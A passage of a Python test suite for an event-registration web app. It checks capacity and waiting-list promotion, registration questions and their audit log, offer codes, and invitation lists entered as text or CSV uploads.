    response = settings_post(client, event, {"form": "capacity", "capacity-online_capacity": "3"})
    assert response.status_code == 302
    assert "Seats saved; 2 moved up from the waiting list." in client.get(response.location).text
    assert [fresh(db, r).status for r in people] == ["confirmed", "confirmed", "confirmed", "waitlisted"]
    mailbox.deliver()  # sent after the response already; nothing is left, nothing is sent twice
    assert sorted(m["To"] for m in mailbox.messages[before:]) == ["d1@example.org", "d2@example.org"]
    assert all(m["Subject"].startswith("A seat is free") for m in mailbox.messages[before:])
    refused = settings_post(client, event, {"form": "capacity", "capacity-online_capacity": "0"})
    assert refused.status_code == 422 and field_error(refused, "capacity-online_capacity")
    db.session.expire_all()
    assert db.session.get(Event, event.id).online_capacity == 3


def test_questions_are_added_ordered_and_removed_on_the_settings_page(client, db, desk_event):
    event = desk_event
    for label, kind, options in [
        ("Your role", "short_text", ""),
        ("Which session?", "single_choice", "Morning\nAfternoon\n"),
    ]:
        response = settings_post(
            client,
            event,
            {
                "form": "question",
                "question-label": label,
                "question-kind": kind,
                "question-options": options,
                "question-required": "y",
            },
        )
        assert response.status_code == 302
    refused = settings_post(
        client,
        event,
        {
            "form": "question",
            "question-label": "Pick one",
            "question-kind": "multiple_choice",
            "question-options": "Only one",
        },
    )
    assert refused.status_code == 422 and "at least two choices" in field_error(refused, "question-options")
    role, session = services.event_questions(event.id)
    assert (role.kind, role.required, session.options) == ("short_text", True, ["Morning", "Afternoon"])

    form = client.get(f"/events/{event.slug}/register").text
    assert form.index("Your role") < form.index("Which session?")
    url = desk(event, "/registration-settings")
    client.post(
        desk(event, f"/registration-settings/questions/{session.id}/up"), data={"csrf_token": csrf_token(client, url)}
    )
    form = client.get(f"/events/{event.slug}/register").text
    assert form.index("Which session?") < form.index("Your role")
    client.post(
        desk(event, f"/registration-settings/questions/{role.id}/delete"), data={"csrf_token": csrf_token(client, url)}
    )
    db.session.expire_all()
    assert [q.label for q in services.event_questions(event.id)] == ["Which session?"]
    assert "Your role" not in client.get(f"/events/{event.slug}/register").text


def test_adding_moving_and_deleting_a_question_is_in_the_events_log(client, db, desk_event, organiser):
    event = desk_event
    url = desk(event, "/registration-settings")
    for label in ("Your role", "Which session?"):
        settings_post(client, event, {"form": "question", "question-label": label, "question-kind": "short_text"})
    role, session = services.event_questions(event.id)
    client.post(
        desk(event, f"/registration-settings/questions/{session.id}/up"), data={"csrf_token": csrf_token(client, url)}
    )
    client.post(
        desk(event, f"/registration-settings/questions/{session.id}/up"),  # first already: no move
        data={"csrf_token": csrf_token(client, url)},
    )
    client.post(
        desk(event, f"/registration-settings/questions/{role.id}/delete"), data={"csrf_token": csrf_token(client, url)}
    )
    entries = db.session.execute(
        select(AuditEntry.action, AuditEntry.summary, AuditEntry.user_id)
        .where(AuditEntry.event_id == event.id, AuditEntry.action.like("question.%"))
        .order_by(AuditEntry.id)
    ).all()
    assert entries == [
        ("question.add", "Your role", organiser.id),
        ("question.add", "Which session?", organiser.id),
        ("question.move", "Which session?", organiser.id),
        ("question.delete", "Your role", organiser.id),
    ]
    assert "question.delete" in client.get(f"/manage/events/{event.id}/log").text


def test_a_question_of_another_event_or_an_unknown_action_is_not_found(client, db, desk_event, make_event):
    other = services.add_question(make_event(title="Other"), {"label": "Theirs", "kind": "short_text"})
    mine = services.add_question(desk_event, {"label": "Mine", "kind": "short_text"})
    db.session.commit()
    url = desk(desk_event, "/registration-settings")
    for question, action in ((other, "delete"), (other, "up"), (mine, "sideways")):
        response = client.post(
            desk(desk_event, f"/registration-settings/questions/{question.id}/{action}"),
            data={"csrf_token": csrf_token(client, url)},
        )
        assert response.status_code == 404
    db.session.expire_all()
    assert [q.label for q in services.event_questions(desk_event.id)] == ["Mine"]
    assert count(db, AuditEntry, AuditEntry.action.in_(("question.move", "question.delete"))) == 0


def test_offer_codes_are_added_on_the_settings_page(client, db, desk_event):
    event = desk_event
    response = settings_post(
        client,
        event,
        {
            "form": "offer",
            "offer-code": "early-bird",
            "offer-discount_kind": "percent",
            "offer-discount": "20",
            "offer-max_uses": "5",
            "offer-valid_from": "2030-01-01T10:00",
            "offer-valid_until": "2030-02-01T10:00",
            "offer-email": "Aida@Example.kz",
        },
    )
    assert response.status_code == 302
    code = db.session.execute(select(OfferCode)).scalar_one()
    assert (code.code, code.discount_kind, code.discount, code.max_uses, code.email) == (
        "EARLY-BIRD",
        "percent",
        Decimal("20.00"),
        5,
        "aida@example.kz",
    )
    # Entered in the event's own zone (Asia/Almaty, UTC+5 in 2030).
    assert code.valid_from == datetime(2030, 1, 1, 5, 0, tzinfo=UTC)
    assert "EARLY-BIRD" in client.get(desk(event, "/registration-settings")).text
    for data, field in [
        ({"offer-code": "EARLY-BIRD"}, "offer-code"),
        ({"offer-discount": "150"}, "offer-discount"),
        ({"offer-code": "two words"}, "offer-code"),
        ({"offer-discount": ""}, "offer-discount"),
    ]:
        form = {"form": "offer", "offer-code": "OTHER", "offer-discount_kind": "percent", "offer-discount": "10"}
        refused = settings_post(client, event, form | data)
        assert refused.status_code == 422 and field_error(refused, field), data
    assert count(db, OfferCode) == 1


def test_invitations_by_text_and_by_csv_upload(client, db, make_event, organiser, login, mailbox):
    event = make_event(organiser=organiser, registration_policy="invitation")
    login(organiser)
    response = settings_post(
        client, event, {"form": "invite", "invite-emails": "Aida@Example.kz, Aida Nurlanova\nbakyt@example.kg\n"}
    )
    assert response.status_code == 302
    assert "2 invitations sent." in client.get(response.location).text
    upload = "\ufeffemail,name\r\nnodira@example.uz,Nodira Karimova\r\naida@example.kz,Aida\r\n".encode()
    response = settings_post(
        client, event, {"form": "invite", "invite-csv_file": (io.BytesIO(upload), "delegates.csv")}
    )
    assert response.status_code == 302
    assert "1 invitation sent." in client.get(response.location).text  # Aida was invited already
    invited = db.session.execute(select(Invitation.email, Invitation.name).order_by(Invitation.email)).all()
    assert invited == [
        ("aida@example.kz", "Aida Nurlanova"),
        ("bakyt@example.kg", None),
        ("nodira@example.uz", "Nodira Karimova"),
    ]
    mailbox.deliver()
    invitations = [m for m in mailbox.messages if m["Subject"] == f"Invitation to register: {event.title}"]
    assert sorted(m["To"] for m in invitations) == ["aida@example.kz", "bakyt@example.kg", "nodira@example.uz"]
    assert "Dear Nodira Karimova" in body(next(m for m in invitations if m["To"] == "nodira@example.uz"))


def test_an_invitation_is_sent_again_with_the_same_link(client, db, make_event, organiser, login, mailbox):
    event = make_event(organiser=organiser, registration_policy="invitation")
    other = make_event(organiser=organiser, registration_policy="invitation", title="Another conference")
    services.invite(event, [("aida@example.kz", "Aida Nurlanova"), ("bakyt@example.kg", None)], organiser)
    services.invite(other, [("nodira@example.uz", None)], organiser)
    services.register(
        event,
        {"given_name": "Aida", "family_name": "Nurlanova", "country": "KZ"},
        invitation=services.invitation_for(event, "aida@example.kz"),
    )
    db.session.commit()
    login(organiser)
    page = client.get(desk(event, "/registration-settings"))
    rows = re.findall(r"<tr>\s*<td>([^<]+)</td>.*?</tr>", page.text, re.S)
    assert rows == ["aida@example.kz", "bakyt@example.kg"]
    assert "Confirmed" in text_of(page) and "Not registered" in text_of(page)
    mailbox.deliver()
    first = next(m for m in mailbox.messages if m["To"] == "bakyt@example.kg")
    bakyt = services.invitation_for(event, "bakyt@example.kg")
    response = settings_post(client, event, {"form": "resend", "invitation_id": bakyt.id})
    assert response.status_code == 302
    assert "The invitation to bakyt@example.kg is sent again." in client.get(response.location).text
    mailbox.deliver()
    sent = [m for m in mailbox.messages if m["To"] == "bakyt@example.kg"]
    link = re.compile(r"/events/\S+/register\?invitation=\S+")
    assert len(sent) == 2 and link.findall(body(sent[1])) == link.findall(body(first)) != []
    assert bakyt.token in body(sent[1])
    foreign = services.invitation_for(other, "nodira@example.uz")
    assert settings_post(client, event, {"form": "resend", "invitation_id": foreign.id}).status_code == 404
    assert settings_post(client, event, {"form": "resend", "invitation_id": "999999"}).status_code == 404
    mailbox.deliver()
    assert [m["To"] for m in mailbox.messages].count("nodira@example.uz") == 1  # its first invitation only


@pytest.mark.parametrize(
    "data, field",
    [
        ({"invite-emails": "good@example.org\nnot-an-address"}, "invite-emails"),
        ({"invite-emails": ""}, "invite-emails"),
        ({"invite-csv_file": (io.BytesIO(b"email\nfine@example.org\n"), "list.xlsx")}, "invite-csv_file"),
    ],
)
def test_a_bad_invitation_list_invites_nobody(client, db, make_event, organiser, login, data, field):
    event = make_event(organiser=organiser, registration_policy="invitation")
    login(organiser)
    response = settings_post(client, event, {"form": "invite"} | data)
    assert response.status_code == 422 and field_error(response, field)
    assert count(db, Invitation) == 0 and count(db, MailMessage) == 0


@pytest.mark.parametrize(
    "upload, message",
    [
        (b"email\ngood@example.org\nnot-an-address\n", "not-an-address"),
        ("email,name\nalmaty@example.kz,Алия Сапарова\n".encode("cp1251"), "UTF-8"),
        (b"email\n" + b"someone@example.org\n" * 60, "split it"),  # over the 1 kB allowed below
    ],
)
def test_a_bad_csv_file_of_invitees_is_refused_at_its_field(
    client, db, make_event, organiser, login, monkeypatch, upload, message
):
    """Refused whole, not cut short or half-decoded: a cut last row may still be an address, but not the one meant."""
    monkeypatch.setattr(desk_services, "INVITE_CSV_BYTES", 1024)  # a small file is enough to show it
    event = make_event(organiser=organiser, registration_policy="invitation")
    login(organiser)
    response = settings_post(
        client,
        event,
        {"form": "invite", "invite-emails": "first@example.org", "invite-csv_file": (io.BytesIO(upload), "list.csv")},
    )
    assert response.status_code == 422 and message in field_error(response, "invite-csv_file")
    assert count(db, Invitation) == 0 and count(db, MailMessage) == 0


def test_invitation_entries_are_read_and_checked_by_the_desk_service():
    entries = desk_services.invitation_entries(
        "Aida@Example.KZ, Aida Nurlanova\n\nE-mail,Name\nbakyt@example.kg,",
        "\ufeffemail,name\r\nnodira@example.uz,Nodira\r\n".encode(),
    )
    assert entries == [
        ("Aida@example.kz", "Aida Nurlanova"),
        ("bakyt@example.kg", None),
        ("nodira@example.uz", "Nodira"),
    ]
    with pytest.raises(EventMgrError) as refused:
        desk_services.invitation_entries("", b"email\n")
    assert refused.value.field == "emails"
